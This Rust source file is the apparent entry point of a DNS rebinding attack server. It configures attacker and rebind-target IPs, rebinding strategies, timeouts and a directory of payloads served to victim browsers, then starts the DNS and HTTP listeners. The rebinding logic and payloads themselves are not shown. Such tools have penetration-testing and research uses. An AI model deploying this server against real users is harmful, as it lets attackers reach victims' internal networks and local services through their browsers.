use std::net::{Ipv4Addr, SocketAddr};
use std::path::PathBuf;
use std::sync::Arc;
use std::time::Duration;

use anyhow::Context;
use clap::Parser;
use tracing::info;
use tracing_subscriber::EnvFilter;

use rebind::config::AppConfig;
use rebind::http::{servers, ServerStore};
use rebind::query::HostTarget;
use rebind::responder::Responder;
use rebind::session::{self, SessionStore};
use rebind::strategy::Strategy;
use rebind::transport::{tcp::TcpTransport, udp::UdpTransport};

#[derive(Parser)]
#[command(name = "rebind")]
#[command(about = "DNS rebinding attack server", long_about = None)]
struct Args {
    /// UDP/TCP port of the DNS responder
    #[arg(long, default_value_t = 53)]
    dns_port: u16,

    /// HTTP listener port (repeat for multiple listeners)
    #[arg(long = "http-port", default_values_t = [8080u16])]
    http_ports: Vec<u16>,

    /// Default attacker address, answered when a query name carries none
    #[arg(long, default_value = "127.0.0.1")]
    response_ip: String,

    /// Default rebind target address
    #[arg(long, default_value = "127.0.0.1")]
    rebound_ip: String,

    /// Default rebinding strategy
    #[arg(long, default_value = "fromqueryfirstthensecond")]
    strategy: String,

    /// Seconds during which follow-up queries answer with the rebind target
    #[arg(long, default_value_t = 300)]
    rebound_timeout: u64,

    /// Seconds of idle time after which a session is dropped
    #[arg(long, default_value_t = 600)]
    session_ttl: u64,

    /// Allow the manager to add one HTTP listener at runtime
    #[arg(long)]
    allow_dynamic_servers: bool,

    /// Directory of payload files served to victim browsers
    #[arg(long, default_value = "./html")]
    web_root: PathBuf,

    /// Number of worker threads (default: 2 per CPU core)
    #[arg(short, long)]
    workers: Option<usize>,
}

impl Args {
    fn into_config(self) -> anyhow::Result<AppConfig> {
        let response_ip: HostTarget = self
            .response_ip
            .parse()
            .map_err(|_| anyhow::anyhow!("invalid response IP: {}", self.response_ip))?;
        let rebound_ip: HostTarget = self
            .rebound_ip
            .parse()
            .map_err(|_| anyhow::anyhow!("invalid rebound IP: {}", self.rebound_ip))?;
        let default_strategy = Strategy::from_name(&self.strategy)
            .with_context(|| format!("unknown rebinding strategy: {}", self.strategy))?;

        Ok(AppConfig {
            dns_port: self.dns_port,
            http_ports: self.http_ports,
            response_ip,
            rebound_ip,
            default_strategy,
            rebound_timeout: Duration::from_secs(self.rebound_timeout),
            session_ttl: Duration::from_secs(self.session_ttl),
            allow_dynamic_servers: self.allow_dynamic_servers,
            web_root: self.web_root,
        })
    }
}

fn main() -> anyhow::Result<()> {
    tracing_subscriber::fmt()
        .with_env_filter(
            EnvFilter::try_from_default_env().unwrap_or_else(|_| EnvFilter::new("rebind=info")),
        )
        .init();

    let args = Args::parse();

    let workers = args.workers.unwrap_or_else(|| {
        let cores = std::thread::available_parallelism()
            .map(|n| n.get())
            .unwrap_or(1);
        cores * 2
    });

    let config = args.into_config()?;

    tokio::runtime::Builder::new_multi_thread()
        .worker_threads(workers)
        .enable_all()
        .build()?
        .block_on(run(config))
}

async fn run(config: AppConfig) -> anyhow::Result<()> {
    let config = Arc::new(config);
    let store = Arc::new(SessionStore::new());

    let (server_store, err_rx) = ServerStore::new(config.clone(), store.clone());
    for &port in &config.http_ports {
        server_store
            .start(port, false)
            .await
            .with_context(|| format!("failed to start HTTP listener on port {port}"))?;
    }
    tokio::spawn(servers::drain_errors(err_rx));

    let responder = Arc::new(Responder::new(config.clone(), store.clone()));
    let dns_addr: SocketAddr = (Ipv4Addr::UNSPECIFIED, config.dns_port).into();
    let udp = UdpTransport::bind(dns_addr)
        .await
        .with_context(|| format!("failed to bind UDP DNS socket on {dns_addr}"))?;
    let tcp = TcpTransport::bind(dns_addr)
        .await
        .with_context(|| format!("failed to bind TCP DNS listener on {dns_addr}"))?;
    udp.start(responder.clone());
    tcp.start(responder);

    tokio::spawn(session::run_expiry(store, config.session_ttl));

    info!(
        dns_port = config.dns_port,
        http_ports = ?config.http_ports,
        strategy = config.default_strategy.name(),
        "rebinding server up"
    );

    std::future::pending::<()>().await;

    Ok(())
}
